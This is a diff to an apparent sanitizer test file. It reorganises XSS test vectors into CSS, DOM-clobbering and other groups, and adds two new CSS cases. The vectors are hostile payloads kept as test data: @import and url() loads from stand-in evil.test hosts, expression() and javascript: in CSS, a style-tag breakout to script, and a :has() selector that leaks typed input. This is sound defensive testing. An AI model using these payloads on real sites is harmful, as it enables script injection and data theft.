@@ -99,7 +99,128 @@ const IMPORTS: readonly string[] = [
   `a{} @import "${EVIL}/a.css"`,
 ]
 
-export const VECTORS: readonly Vector[] = [
+/** Style sheets as weapons (SA-06). */
+export const CSS_VECTORS: readonly Vector[] = [
+  style('@import', `@import "${EVIL}/a.css"; @import url(${EVIL}/b.css); @\\69mport '${EVIL}/c.css'; a{}`),
+  style('@import after a comment with a brace', `/*{*/@import "${EVIL}/a.css";a{}`),
+  ...IMPORTS.map(
+    (rule): Vector => ({
+      name: `rule inserted: ${rule.slice(0, 40)}`,
+      write(writer) {
+        element(writer, 'style')
+        element(writer, 'style', {}, { namespace: 'svg' })
+        element(writer, 'link', { rel: 'stylesheet', href: 'https://assets.test/x.css' })
+        for (const id of [FIRST, FIRST + 1, FIRST + 2]) {
+          writer.op(OP.ruleInsert, id, 0, 1)
+          writer.text(rule)
+        }
+      },
+      allows: /assets/,
+    }),
+  ),
+  style('@import between comments', `/**/@import/**/"${EVIL}/a.css"/**/;`),
+  style(
+    'url() over http',
+    `body{background:url(http://evil.test/x.png)} .x{cursor:url(http://evil.test/c.cur),auto}`,
+  ),
+  style('image-set over http', `body{background:image-set("http://evil.test/x.png" 1x)}`),
+  style(
+    '@font-face over http',
+    `@font-face{font-family:f;src:url(http://evil.test/f.woff)} body{font-family:f}`,
+  ),
+  style(
+    'image-set() and src() in odd spellings',
+    `body{background:-webkit-image-set(url(http://evil.test/x.png) 1x);list-style-image:src("http://evil.test/y.png")}`,
+  ),
+  style(
+    ':has() that asks for what is typed',
+    `body:has(input[value^="s"]){background:url(http://evil.test/s.png)}`,
+  ),
+  style('attr() with url', `body::after{content:attr(data-x url)}`),
+  style(
+    'javascript: in CSS',
+    `body{background:url("${JS}");-moz-binding:url(${EVIL});behavior:url(${EVIL})}`,
+  ),
+  style('expression()', `body{width:expression(${RUN})}`),
+  style('end of style element', `</style><script>${RUN}</script>`),
+  style('unbalanced', `a{color:red}}}}} @media{{{{ b{`),
+  {
+    name: 'style text as child',
+    write(writer) {
+      element(writer, 'style', {}, { descend: true })
+      text(writer, `@import "${EVIL}/a.css"; body{background:url(http://evil.test/x.png)}`)
+      writer.op(OP.up)
+    },
+  },
+  {
+    name: 'constructed sheet with @import',
+    write(writer) {
+      writer.op(OP.sheet)
+      writer.text(`@import "${EVIL}/a.css"; body{color:red}`)
+      writer.op(OP.adopt, 1, 1, FIRST)
+      writer.op(OP.ruleInsert, FIRST, 0, 1)
+      writer.text(`@import "${EVIL}/b.css";`)
+    },
+  },
+  {
+    name: 'style attribute',
+    write(writer) {
+      element(writer, 'div', {
+        style: `background:url(http://evil.test/x);behavior:url(${EVIL});width:expression(alert(1))`,
+      })
+    },
+  },
+]
+
+/** Names that clobber properties of the document and of forms (SA-05). */
+export const CLOBBERING_VECTORS: readonly Vector[] = [
+  ...[
+    'createElement',
+    'createElementNS',
+    'documentElement',
+    'body',
+    'head',
+    'adoptedStyleSheets',
+    'compatMode',
+    'activeElement',
+  ].map(
+    (name): Vector => ({
+      name: `clobbered document.${name}`,
+      write(writer) {
+        element(writer, 'form', { name })
+        element(writer, 'img', { name })
+        element(writer, 'iframe', { name })
+        element(writer, 'p', { class: 'after' })
+      },
+    }),
+  ),
+  {
+    name: 'form whose inputs clobber it',
+    write(writer) {
+      element(writer, 'form', {}, { descend: true })
+      for (const name of [
+        'insertBefore',
+        'attributes',
+        'style',
+        'setAttribute',
+        'removeChild',
+        'firstChild',
+        'localName',
+        'parentNode',
+        'nodeType',
+        'namespaceURI',
+      ]) {
+        element(writer, 'input', { name })
+      }
+      writer.op(OP.attribute, FIRST)
+      writer.str('style')
+      writer.value('color: red')
+      writer.op(OP.up)
+    },
+  },
+]
+
+export const OTHER_VECTORS: readonly Vector[] = [
   // Scripts.
   one('script', 'script', {}, { inside: RUN }),
   one('script with source', 'script', { src: `${EVIL}/a.js` }),
@@ -317,115 +438,6 @@ export const VECTORS: readonly Vector[] = [
   one('track elsewhere', 'track', { src: 'http://evil.test/x.vtt', default: '', kind: 'subtitles' }),
   one('background attribute', 'body', { background: 'http://evil.test/x.png' }),
 
-  // CSS.
-  style('@import', `@import "${EVIL}/a.css"; @import url(${EVIL}/b.css); @\\69mport '${EVIL}/c.css'; a{}`),
-  style('@import after a comment with a brace', `/*{*/@import "${EVIL}/a.css";a{}`),
-  ...IMPORTS.map(
-    (rule): Vector => ({
-      name: `rule inserted: ${rule.slice(0, 40)}`,
-      write(writer) {
-        element(writer, 'style')
-        element(writer, 'style', {}, { namespace: 'svg' })
-        element(writer, 'link', { rel: 'stylesheet', href: 'https://assets.test/x.css' })
-        for (const id of [FIRST, FIRST + 1, FIRST + 2]) {
-          writer.op(OP.ruleInsert, id, 0, 1)
-          writer.text(rule)
-        }
-      },
-      allows: /assets/,
-    }),
-  ),
-  style('@import between comments', `/**/@import/**/"${EVIL}/a.css"/**/;`),
-  style(
-    'url() over http',
-    `body{background:url(http://evil.test/x.png)} .x{cursor:url(http://evil.test/c.cur),auto}`,
-  ),
-  style('image-set over http', `body{background:image-set("http://evil.test/x.png" 1x)}`),
-  style(
-    '@font-face over http',
-    `@font-face{font-family:f;src:url(http://evil.test/f.woff)} body{font-family:f}`,
-  ),
-  style('attr() with url', `body::after{content:attr(data-x url)}`),
-  style(
-    'javascript: in CSS',
-    `body{background:url("${JS}");-moz-binding:url(${EVIL});behavior:url(${EVIL})}`,
-  ),
-  style('expression()', `body{width:expression(${RUN})}`),
-  style('end of style element', `</style><script>${RUN}</script>`),
-  style('unbalanced', `a{color:red}}}}} @media{{{{ b{`),
-  {
-    name: 'style text as child',
-    write(writer) {
-      element(writer, 'style', {}, { descend: true })
-      text(writer, `@import "${EVIL}/a.css"; body{background:url(http://evil.test/x.png)}`)
-      writer.op(OP.up)
-    },
-  },
-  {
-    name: 'constructed sheet with @import',
-    write(writer) {
-      writer.op(OP.sheet)
-      writer.text(`@import "${EVIL}/a.css"; body{color:red}`)
-      writer.op(OP.adopt, 1, 1, FIRST)
-      writer.op(OP.ruleInsert, FIRST, 0, 1)
-      writer.text(`@import "${EVIL}/b.css";`)
-    },
-  },
-  {
-    name: 'style attribute',
-    write(writer) {
-      element(writer, 'div', {
-        style: `background:url(http://evil.test/x);behavior:url(${EVIL});width:expression(alert(1))`,
-      })
-    },
-  },
-
-  // Names that clobber.
-  ...[
-    'createElement',
-    'createElementNS',
-    'documentElement',
-    'body',
-    'head',
-    'adoptedStyleSheets',
-    'compatMode',
-    'activeElement',
-  ].map(
-    (name): Vector => ({
-      name: `clobbered document.${name}`,
-      write(writer) {
-        element(writer, 'form', { name })
-        element(writer, 'img', { name })
-        element(writer, 'iframe', { name })
-        element(writer, 'p', { class: 'after' })
-      },
-    }),
-  ),
-  {
-    name: 'form whose inputs clobber it',
-    write(writer) {
-      element(writer, 'form', {}, { descend: true })
-      for (const name of [
-        'insertBefore',
-        'attributes',
-        'style',
-        'setAttribute',
-        'removeChild',
-        'firstChild',
-        'localName',
-        'parentNode',
-        'nodeType',
-        'namespaceURI',
-      ]) {
-        element(writer, 'input', { name })
-      }
-      writer.op(OP.attribute, FIRST)
-      writer.str('style')
-      writer.value('color: red')
-      writer.op(OP.up)
-    },
-  },
-
   // Odd names.
   one('tag with a space', 'img src=x onerror=alert(1)'),
   one('empty-ish tag', ' '),
@@ -513,3 +525,5 @@ export const VECTORS: readonly Vector[] = [
     },
   },
 ]
+
+export const VECTORS: readonly Vector[] = [...OTHER_VECTORS, ...CSS_VECTORS, ...CLOBBERING_VECTORS]
